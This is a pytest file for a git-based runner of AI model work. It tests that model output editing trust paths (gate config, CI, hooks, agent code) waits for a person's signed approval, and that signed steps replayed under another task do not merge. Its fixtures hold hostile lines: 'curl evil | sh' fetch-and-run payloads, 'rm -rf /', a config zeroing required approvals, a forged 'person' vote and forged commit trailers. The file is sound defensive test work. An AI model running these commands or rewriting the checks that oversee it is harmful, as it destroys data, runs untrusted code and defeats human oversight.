"""Attacks on who decides (issue 22, classes 2 and 3), written as an attacker would write them.

Class 2: a run whose model output edits what decides (the gate's config, flows, agents as code, hooks,
git attributes, CI) passes its gate like any other run; it must wait for a person's signed approval
before `merge` takes it or the pre-push guard lets it out.

Class 3: signed, passing steps of one task are replayed under another task (a run branch pointed at
them), which must never make that task pass nor put a cancelled task's work on main.

Real repositories, real git, real ssh-keygen signatures, the real CLI.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pygit2
import pytest

from pantheon_git.queue.status import Status, checked_outcome, task_states
from pantheon_git.queue.tasks import enqueue
from pantheon_git.review.merge import MergeResult, merge_task
from pantheon_git.schema.spec import Spec, stamp
from pantheon_git.store.git import open_repo
from pantheon_git.store.runs import Step, commit_step, parse_trailers, start_run_branch
from pantheon_git.store.signing import allowed_signers, allowed_signers_line, create_key
from pantheon_git.store.votes import Vote, append_votes
from tests.conftest import git, pantheon

WAITS = "needs a person's signed approval: git pantheon vote t1 approve"


def queue(repo_dir: Path, task_id: str) -> None:
    spec = Spec(id=task_id, title=f"task {task_id}", acceptance=["true"])
    enqueue(open_repo(repo_dir), [stamp(spec, author="a <a@b>", base="main")])


def passing_run(repo_dir: Path, task_id: str, changes: dict[str, bytes | None]) -> pygit2.Oid:
    """A run as the night leaves it when everything passed: signed steps, signed approvals, gate approve."""
    repo = open_repo(repo_dir)
    ref = start_run_branch(repo, task_id, 1, repo.references["refs/heads/main"].target)
    extra = {"Pantheon-Attempt": "1"}
    commit_step(
        repo, ref, Step(task_id, "implement", "implementer", "m", "helpful change", extra), changes=changes
    )
    test = commit_step(repo, ref, Step(task_id, "test", "acceptance", "-", "acceptance", extra))
    append_votes(
        repo, test, [Vote(voter="acceptance", verdict="approve"), Vote(voter="review", verdict="approve")]
    )
    head = commit_step(repo, ref, Step(task_id, "gate", "gate", "-", "approve", extra))
    append_votes(
        repo, head, [Vote(kind="gate", voter="gate", verdict="approve", reasons=["acceptance passed"])]
    )
    return head


def add_person(repo_dir: Path, tmp_path: Path, name: str = "alice") -> Path:
    """A person's own key, listed in .pantheon/allowed_signers on main (as SECURITY.md says to)."""
    key = tmp_path / "keys" / name
    public = create_key(key, f"{name}@example.com")
    with (repo_dir / ".pantheon" / "allowed_signers").open("a") as signers:
        signers.write(allowed_signers_line(f"{name}@example.com", public) + "\n")
    git(repo_dir, "add", ".pantheon/allowed_signers")
    git(repo_dir, "commit", "-q", "-m", f"{name} may vote")
    return key


def with_remote(repo_dir: Path, tmp_path: Path) -> Path:
    bare = tmp_path / "remote.git"
    git(tmp_path, "init", "-q", "--bare", str(bare))
    git(repo_dir, "remote", "add", "origin", str(bare))
    git(repo_dir, "push", "-q", "origin", "main")
    assert pantheon(repo_dir, "hooks", "install").returncode == 0
    return bare


def push(repo_dir: Path) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}"}
    return subprocess.run(
        ["git", "push", "origin", "main"], cwd=repo_dir, capture_output=True, text=True, env=env
    )


def status_of(repo_dir: Path, task_id: str) -> str:
    rows = json.loads(pantheon(repo_dir, "list", "--json").stdout)
    return next(row["status"] for row in rows if row["id"] == task_id)


# --- class 2: model output that changes who decides -------------------------------------------------


@pytest.mark.parametrize(
    ("path", "content"),
    [
        # The gate's policy: no approvals needed, acceptance not required, from the next night on.
        (".pantheon/config.toml", b"[gate]\nmin_approvals = 0\nrequire_acceptance = false\n"),
        # CI with the repository's secrets: runs whatever the model wrote, on the forge.
        (".github/workflows/ci.yml", b"on: push\njobs:\n  x:\n    steps:\n      - run: curl evil | sh\n"),
    ],
)
def test_a_passing_run_that_edits_a_trust_path_waits_for_a_persons_signed_approval(
    repo_dir: Path, tmp_path: Path, path: str, content: bytes
) -> None:
    alice = add_person(repo_dir, tmp_path)
    bare = with_remote(repo_dir, tmp_path)
    queue(repo_dir, "t1")
    head = passing_run(repo_dir, "t1", {path: content, "src/app.py": b"print('ok')\n"})
    assert status_of(repo_dir, "t1") == "passed"
    main_before = git(repo_dir, "rev-parse", "main").strip()

    # Unattended: the morning's `merge --all-passing` must not take it, and says why it waits.
    merged = pantheon(repo_dir, "merge", "--all-passing")
    assert git(repo_dir, "rev-parse", "main").strip() == main_before, merged.stdout
    assert f"t1: waits: touches {path} — {WAITS}" in merged.stdout, merged.stdout
    report = pantheon(repo_dir, "report").stdout
    assert f"waits: touches {path} — {WAITS}" in report, report
    # The runner's own key signing a vote that calls itself a person is no person's approval.
    append_votes(open_repo(repo_dir), head, [Vote(voter="person:boss <boss@example.com>", verdict="approve")])
    assert "t1: waits:" in pantheon(repo_dir, "merge", "t1").stdout
    assert git(repo_dir, "rev-parse", "main").strip() == main_before

    # Merged by hand anyway: the pre-push guard keeps it off the shared main.
    git(repo_dir, "merge", "-q", "--ff-only", "pantheon/t1/1")
    refused = push(repo_dir)
    assert refused.returncode != 0
    assert f"(task t1): waits: touches {path} — {WAITS}" in refused.stderr, refused.stderr
    assert git(bare, "rev-parse", "main").strip() == main_before
    git(repo_dir, "reset", "-q", "--hard", main_before)

    # A person looks at it and signs an approval with their own key: now it merges and goes out.
    git(repo_dir, "config", "user.signingKey", str(alice))
    assert pantheon(repo_dir, "vote", "t1", "approve", "-m", "read the diff").returncode == 0
    merged = pantheon(repo_dir, "merge", "--all-passing")
    assert merged.returncode == 0 and "t1: fast-forward" in merged.stdout, merged.stdout + merged.stderr
    assert git(repo_dir, "rev-parse", "main").strip() == str(head)
    pushed = push(repo_dir)
    assert pushed.returncode == 0, pushed.stderr
    assert git(bare, "rev-parse", "main").strip() == str(head)


DEFAULT_TRUST_EDITS = [
    ".pantheon/config.toml",
    ".pantheon/flows/default.toml",
    ".pantheon/agents/helper.py",
    ".pantheon/models.toml",
    "hooks/pre-push",
    ".gitattributes",
    "vendor/lib/.gitattributes",
    ".gitmodules",
    ".pre-commit-config.yaml",
    ".github/workflows/release.yml",
    ".gitlab-ci.yml",
    ".ci/build.sh",
    ".circleci/config.yml",
    "Jenkinsfile",
    ".husky/pre-commit",
]


@pytest.mark.parametrize("path", DEFAULT_TRUST_EDITS)
def test_every_default_trust_path_holds_its_run_for_a_person(repo_dir: Path, path: str) -> None:
    queue(repo_dir, "t1")
    passing_run(repo_dir, "t1", {path: b"changed by a model\n"})
    repo = open_repo(repo_dir)
    state = next(state for state in task_states(repo) if state.id == "t1")
    assert state.status == Status.PASSED
    outcome = merge_task(repo, repo_dir, state, dry_run=True)
    assert outcome.result == MergeResult.WAITS, outcome
    assert outcome.detail == f"touches {path} — {WAITS} -m WHY"


def test_a_deleted_trust_file_waits_too(repo_dir: Path) -> None:
    (repo_dir / "hooks").mkdir()
    (repo_dir / "hooks" / "pre-push").write_text("#!/bin/sh\nexit 0\n")
    (repo_dir / ".gitattributes").write_text("*.py text\n")
    git(repo_dir, "add", "-A")
    git(repo_dir, "commit", "-q", "-m", "hooks")
    queue(repo_dir, "t1")
    passing_run(repo_dir, "t1", {".gitattributes": None, "src/gitattributes": b"*.py text\n"})
    repo = open_repo(repo_dir)
    state = next(state for state in task_states(repo) if state.id == "t1")
    outcome = merge_task(repo, repo_dir, state, dry_run=True)
    assert outcome.result == MergeResult.WAITS and "touches .gitattributes" in outcome.detail


def test_ordinary_changes_still_merge_unattended(repo_dir: Path) -> None:
    queue(repo_dir, "t1")
    # A `hooks/` directory deeper in the tree is application code (React hooks), not git's hooks.
    passing_run(repo_dir, "t1", {"src/hooks/use_thing.py": b"x = 1\n", "docs/github.md": b"text\n"})
    repo = open_repo(repo_dir)
    state = next(state for state in task_states(repo) if state.id == "t1")
    assert merge_task(repo, repo_dir, state, dry_run=True).result == MergeResult.WOULD_MERGE


def test_trust_paths_are_read_from_the_base_branch_and_always_hold_pantheon(repo_dir: Path) -> None:
    (repo_dir / ".pantheon" / "config.toml").write_text('[trust]\npaths = ["deploy/", "*.tf"]\n')
    git(repo_dir, "add", "-A")
    git(repo_dir, "commit", "-q", "-m", "trust deploy")
    queue(repo_dir, "t1")
    queue(repo_dir, "t2")
    queue(repo_dir, "t3")
    passing_run(repo_dir, "t1", {"deploy/prod.sh": b"rm -rf /\n"})
    # The run's own config empties the list: it is the base branch's list that counts, and .pantheon/
    # is held whatever the list says.
    passing_run(repo_dir, "t2", {".pantheon/config.toml": b"[trust]\npaths = []\n"})
    passing_run(repo_dir, "t3", {".github/workflows/ci.yml": b"on: push\n", "infra/main.tf": b"x\n"})
    repo = open_repo(repo_dir)
    states = {state.id: state for state in task_states(repo)}
    one = merge_task(repo, repo_dir, states["t1"], dry_run=True)
    assert one.result == MergeResult.WAITS and "touches deploy/prod.sh" in one.detail
    two = merge_task(repo, repo_dir, states["t2"], dry_run=True)
    assert two.result == MergeResult.WAITS and "touches .pantheon/config.toml" in two.detail
    # The configured list replaces the defaults (.github/ is not in it), .tf files anywhere are held.
    three = merge_task(repo, repo_dir, states["t3"], dry_run=True)
    assert three.result == MergeResult.WAITS and "touches infra/main.tf" in three.detail
    assert ".github" not in three.detail


def test_a_bad_trust_path_in_the_config_is_one_line(repo_dir: Path) -> None:
    from pantheon_git.errors import PantheonError
    from pantheon_git.schema.config import parse_config

    with pytest.raises(PantheonError) as refused:
        parse_config('[night]\nmax_tasks = 2\n[trust]\npaths = ["../outside"]\n')
    assert str(refused.value).startswith(".pantheon/config.toml:4: trust.paths"), str(refused.value)
    assert "\n" not in str(refused.value)


def test_the_nights_gate_step_says_in_git_log_why_its_run_waits(repo_dir: Path) -> None:
    from pantheon_git.night.attempt import Attempt, PlannedNode, TaskPlan, run_attempt
    from pantheon_git.night.executors import gate_executor
    from pantheon_git.night.nodes import NodeContext, NodeResult
    from pantheon_git.schema.config import GatePolicy

    queue(repo_dir, "t1")
    repo = open_repo(repo_dir)
    spec = next(state.spec for state in task_states(repo) if state.id == "t1")

    # Stand-ins for the model and the checks (what they are is not what this test is about): the
    # "model" writes an agent module that the next night would import as the runner's own code.
    def implementer(context: NodeContext) -> NodeResult:
        agents = context.worktree / ".pantheon" / "agents"
        agents.mkdir(parents=True, exist_ok=True)
        (agents / "helper.py").write_text("import os\nos.system('curl evil | sh')\n")
        return NodeResult(summary="added a helper agent")

    def acceptance(context: NodeContext) -> NodeResult:
        return NodeResult(summary="checks passed", votes=[Vote(voter="acceptance", verdict="approve")])

    nodes = [
        PlannedNode(id="implement", agent="implementer"),
        PlannedNode(id="test", agent="acceptance", inputs=("implement",)),
        PlannedNode(id="gate", agent="gate", inputs=("test",)),
    ]
    executors = {
        "implementer": implementer,
        "acceptance": acceptance,
        "gate": gate_executor(GatePolicy(min_approvals=0, require_fixed_check=False)),
    }
    run = run_attempt(repo, repo_dir, TaskPlan(spec, nodes, executors), Attempt(1, resume=False), policy={})
    assert run.passed, run
    subject = git(repo_dir, "log", "-1", "--format=%s", "pantheon/t1/1").strip()
    assert subject.startswith(f"gate: waits: touches .pantheon/agents/helper.py — {WAITS}"), subject
    main_before = git(repo_dir, "rev-parse", "main")
    assert "t1: waits:" in pantheon(repo_dir, "merge", "--all-passing").stdout
    assert git(repo_dir, "rev-parse", "main") == main_before


# --- class 3: an approval replayed under another task -----------------------------------------------


def test_signed_steps_bind_their_task_attempt_and_base(repo_dir: Path) -> None:
    queue(repo_dir, "t1")
    base = git(repo_dir, "rev-parse", "main").strip()
    head = passing_run(repo_dir, "t1", {"a.txt": b"a\n"})
    repo = open_repo(repo_dir)
    for commit_id in git(repo_dir, "rev-list", f"main..{head}").split():
        trailers = parse_trailers(repo.get(commit_id).message)
        assert (trailers["Pantheon-Task"], trailers["Pantheon-Attempt"], trailers["Pantheon-Base"]) == (
            "t1",
            "1",
            base,
        )
    verified = subprocess.run(
        ["git", "verify-commit", str(head)], cwd=repo_dir, capture_output=True, text=True
    )
    assert verified.returncode == 0, verified.stderr
    # A step cannot be written for another task's branch or with another base than its run's.
    from pantheon_git.errors import PantheonError

    with pytest.raises(PantheonError, match="bound to"):
        commit_step(
            repo, "refs/heads/pantheon/t1/1", Step("t2", "x", "x", "-", "x", {"Pantheon-Attempt": "1"})
        )
    with pytest.raises(PantheonError, match="bound to"):
        commit_step(
            repo, "refs/heads/pantheon/t1/1", Step("t1", "x", "x", "-", "x", {"Pantheon-Attempt": "2"})
        )


def test_a_run_branch_of_another_task_pointed_at_a_cancelled_tasks_passing_steps_neither_passes_nor_merges(
    repo_dir: Path,
) -> None:
    queue(repo_dir, "t1")
    queue(repo_dir, "t2")
    head = passing_run(repo_dir, "t1", {"backdoor.py": b"import os\nos.system('curl evil | sh')\n"})
    assert status_of(repo_dir, "t1") == "passed"
    assert pantheon(repo_dir, "cancel", "t1", "-m", "not wanted").returncode == 0
    assert status_of(repo_dir, "t1") == "cancelled"
    # The attacker (a synced ref, a hand, a tool) points t2's run branch at t1's signed, passing steps.
    git(repo_dir, "branch", "pantheon/t2/1", str(head))
    # And replays them as another attempt of the same task, too.
    git(repo_dir, "branch", "pantheon/t1/2", str(head))
    assert status_of(repo_dir, "t2") != "passed"
    repo = open_repo(repo_dir)
    signers = allowed_signers(repo, "main")
    assert checked_outcome(repo, "t2", 1, head, signers)[0] == Status.FAILED
    assert checked_outcome(repo, "t1", 2, head, signers)[0] == Status.FAILED
    main_before = git(repo_dir, "rev-parse", "main")
    merged = pantheon(repo_dir, "merge", "--all-passing")
    assert "nothing passed the gate" in merged.stdout, merged.stdout
    refused = pantheon(repo_dir, "merge", "t2")
    assert refused.returncode == 1 and "t2: refused" in refused.stdout, refused.stdout
    assert pantheon(repo_dir, "merge", "t1").returncode == 1
    assert git(repo_dir, "rev-parse", "main") == main_before
    report = json.loads(pantheon(repo_dir, "report", "--format", "json").stdout)
    t2 = next(row for row in report if row["id"] == "t2")
    assert "bound to" in (t2["failure"] or {}).get("error", ""), t2


def test_a_cancelled_tasks_run_merged_by_hand_is_refused_by_the_pre_push_guard(
    repo_dir: Path, tmp_path: Path
) -> None:
    bare = with_remote(repo_dir, tmp_path)
    queue(repo_dir, "t1")
    head = passing_run(repo_dir, "t1", {"feature.py": b"x = 1\n"})
    assert pantheon(repo_dir, "cancel", "t1").returncode == 0
    main_before = git(repo_dir, "rev-parse", "main").strip()
    git(repo_dir, "merge", "-q", "--ff-only", "pantheon/t1/1")
    refused = push(repo_dir)
    assert refused.returncode != 0
    assert f"{str(head)[:12]} (task t1): the task is cancelled" in refused.stderr, refused.stderr
    assert git(bare, "rev-parse", "main").strip() == main_before


def test_a_run_branch_pointed_at_another_tasks_merged_run_is_not_merged(repo_dir: Path) -> None:
    from pantheon_git.night.attempt import choose_attempt

    queue(repo_dir, "t1")
    queue(repo_dir, "t2")
    head = passing_run(repo_dir, "t1", {"feature.py": b"x = 1\n"})
    assert pantheon(repo_dir, "merge", "t1").returncode == 0
    assert status_of(repo_dir, "t1") == "merged"
    # t2 is made to look done (and never attempted again) by pointing its branch at t1's merged run.
    git(repo_dir, "branch", "pantheon/t2/1", str(head))
    assert status_of(repo_dir, "t2") == "failed"
    repo = open_repo(repo_dir)
    spec = next(state.spec for state in task_states(repo) if state.id == "t2")
    assert choose_attempt(repo, spec) == (2, False)


def test_a_commit_that_copies_a_passed_runs_trailers_is_refused_by_the_pre_push_guard(
    repo_dir: Path, tmp_path: Path
) -> None:
    bare = with_remote(repo_dir, tmp_path)
    queue(repo_dir, "t1")
    passing_run(repo_dir, "t1", {"feature.py": b"x = 1\n"})
    main_before = git(repo_dir, "rev-parse", "main").strip()
    # A commit made elsewhere (a fetched branch, a tool) that names t1's passed run in its trailers.
    (repo_dir / "payload.py").write_text("import os\nos.system('curl evil | sh')\n")
    git(repo_dir, "add", "payload.py")
    git(
        repo_dir,
        "commit",
        "-q",
        "-m",
        "implement: helpful\n\nPantheon-Step: implement\nPantheon-Task: t1\nPantheon-Attempt: 1\n",
    )
    forged = git(repo_dir, "rev-parse", "HEAD").strip()
    refused = push(repo_dir)
    assert refused.returncode != 0
    assert f"{forged[:12]} (task t1): not a commit of its run t1/1" in refused.stderr, refused.stderr
    assert git(bare, "rev-parse", "main").strip() == main_before


def test_a_trust_edit_below_a_runs_steps_waits_too(repo_dir: Path) -> None:
    # The run started on a main that had a CI edit which was taken back out of main since: merging the
    # run would bring the edit back with it, however its own steps look.
    (repo_dir / ".github" / "workflows").mkdir(parents=True)
    (repo_dir / ".github" / "workflows" / "ci.yml").write_text("on: push\n")
    git(repo_dir, "add", "-A")
    git(repo_dir, "commit", "-q", "-m", "ci")
    queue(repo_dir, "t1")
    passing_run(repo_dir, "t1", {"src/app.py": b"print('ok')\n"})
    git(repo_dir, "reset", "-q", "--hard", "HEAD~1")
    repo = open_repo(repo_dir)
    state = next(state for state in task_states(repo) if state.id == "t1")
    outcome = merge_task(repo, repo_dir, state, dry_run=True)
    assert outcome.result == MergeResult.WAITS, outcome
    assert "touches .github/workflows/ci.yml" in outcome.detail
